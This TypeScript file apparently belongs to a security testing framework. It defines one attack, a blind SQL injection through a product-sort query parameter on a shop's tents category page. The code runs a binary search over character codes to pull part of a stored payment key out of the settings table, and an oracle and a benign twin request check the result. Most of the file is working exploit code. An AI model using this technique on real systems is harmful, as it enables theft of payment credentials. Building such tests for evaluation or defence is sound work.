import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** Reads part of the payment key bit by bit from the order of products. */
export const sqlOrderBlind: Attack = defineAttack({
  id: 'sql-order-blind',
  class: 'sql-injection',
  title: 'Reads part of the payment key bit by bit from the order of products',
  cwe: 89,
  capec: 7,
  technique: 'T1190',
  preconditions: [],

  steps: async ({ visitor }) => {
    const isBelow = async (place: number, code: number): Promise<boolean> => {
      const value = "(SELECT value FROM settings WHERE key='payment_key')"
      const sort = `(CASE WHEN ascii(substr(${value},${place},1))<${code} THEN id ELSE -id END)`
      const answer = await visitor.get(`/category/tents${query({ sort })}`)
      return (/\/product\/(\d+)/.exec(answer.text)?.[1] ?? '') === '1'
    }
    let read = ''
    for (let place = 9; place <= 11; place++) {
      let low = 48
      let high = 103
      while (high - low > 1) {
        const middle = (low + high) >> 1
        if (await isBelow(place, middle)) high = middle
        else low = middle
      }
      read += String.fromCharCode(low)
    }
    return read
  },
  oracle: (read, { witness }) => witness.loot.paymentKey.slice(8, 11) === read,
  twin: ({ visitor }) => visitor.get(`/category/kitchen${query({ sort: 'name' })}`),
})
